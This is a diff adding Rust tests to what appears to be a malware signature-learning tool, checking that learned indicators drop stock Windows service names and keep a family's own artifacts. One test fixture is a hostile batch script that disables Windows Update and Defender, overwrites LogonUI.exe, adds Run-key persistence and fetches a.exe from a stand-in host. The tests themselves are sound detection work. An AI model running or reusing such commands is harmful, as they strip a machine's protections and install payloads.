@@ -74,3 +74,86 @@ fn a_script_of_common_words_leaves_hashes_only() {
     let learned = learned("Get-Process | Stop-Process -Name powershell -Force", &[]);
     assert!(learned.hashes_only(), "{:#?}", learned.family.indicators);
 }
+
+/// What rival killers do to Windows' own services, tasks and programs.
+const KILLER: &str = r#"@echo off
+net stop wuauserv
+sc config wuauserv start= disabled
+sc stop BITS
+sc delete WinDefend
+sc stop SecurityHealthService
+schtasks /delete /tn "\Microsoft\Windows\Defrag\ScheduledDefrag" /f
+schtasks /change /tn "\Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan" /disable
+copy /y x.exe C:\Windows\System32\LogonUI.exe
+reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v q /d C:\Windows\System32\defrag.exe
+powershell -c "Get-WmiObject -Class Win32_PerfFormattedData_PerfOS_System; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.SecurityProtocolType]::Tls12"
+powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\ProgramData'"
+sc create QvortexHost binPath= C:\ProgramData\qvortex\host.exe
+schtasks /create /tn QvortexUpdate /tr C:\ProgramData\qvortex\host.exe
+start http://qvortex.badsite.top/a.exe
+"#;
+
+#[test]
+fn what_a_script_does_to_windows_is_no_sign_of_it_and_what_it_makes_is() {
+    let learned = learned(KILLER, &[]);
+    let kept: Vec<_> = learned.family.indicators.iter().map(|i| i.pattern.as_str().to_lowercase()).collect();
+    for stock in
+        ["wuauserv", "bits", "windefend", "securityhealth", "defrag", "logonui", "mppreference", "win32_"]
+    {
+        assert!(!kept.iter().any(|pattern| pattern.contains(stock)), "{stock}: {kept:#?}");
+    }
+    assert!(has(&learned, Kind::ServiceName, "QvortexHost"), "{kept:#?}");
+    assert!(has(&learned, Kind::TaskName, "QvortexUpdate"), "{kept:#?}");
+    assert!(has(&learned, Kind::FilePath, "qvortex"), "{kept:#?}");
+    assert!(has(&learned, Kind::Domain, "qvortex.badsite.top"), "{kept:#?}");
+
+    // An administrator who switches the same services off is nobody's malware.
+    let intel = Intel::builtin().clone().with_families([learned.family]);
+    let harmless = "cmd /c sc config wuauserv start= disabled & sc stop SecurityHealthService & sc stop BITS & \
+                    powershell Set-MpPreference -DisableRealtimeMonitoring $true";
+    let found = intel.match_families(&[Observation::new(Kind::CommandText, harmless)]);
+    assert!(found.iter().all(|found| found.family != "Qvortex"), "{found:?}");
+}
+
+#[test]
+fn pieces_of_text_alone_are_never_certain() {
+    let lines: String =
+        (0..30).map(|n| format!("$qvortexpart{n} = 'zanthorum wibblefrotz number {n}'\n")).collect();
+    let learned = learned(&lines, &[]);
+    let weights: u32 = learned
+        .family
+        .indicators
+        .iter()
+        .filter(|i| i.kind == Kind::CommandText)
+        .map(|i| u32::from(i.weight))
+        .sum();
+    assert!(weights > 0 && weights < learned.family.threshold, "{weights}");
+    let intel = Intel::builtin().clone().with_families([learned.family]);
+    let found = intel.match_families(&[Observation::new(Kind::CommandText, &lines)]);
+    assert_eq!((found[0].family, found[0].content, found[0].certain), ("Qvortex", true, false));
+}
+
+#[test]
+fn the_words_of_libraries_in_a_program_are_no_signature() {
+    let mut program = b"MZ\x90\0".to_vec();
+    for text in [
+        "- not enough space for lowio initialization",
+        "/rustc/9fc6b43126469e3858e2fe86cafb4f0fd5068869/library/core/src/fmt/mod.rs",
+        "This program cannot be run in DOS mode.",
+        "qv0rt3x9loader started with these settings",
+    ] {
+        program.extend([0; 8]);
+        program.extend(text.as_bytes());
+    }
+    program.extend([0; 64]);
+    let sample = Sample::file("a.exe".into(), program);
+    let learned = learn("Qvortex", "made for a test", &[sample], &[], Intel::builtin(), &[]);
+    let pieces: Vec<_> = learned
+        .family
+        .indicators
+        .iter()
+        .filter(|i| i.kind == Kind::CommandText)
+        .map(|i| i.pattern.as_str())
+        .collect();
+    assert_eq!(pieces, ["qv0rt3x9loader started with these settings"]);
+}
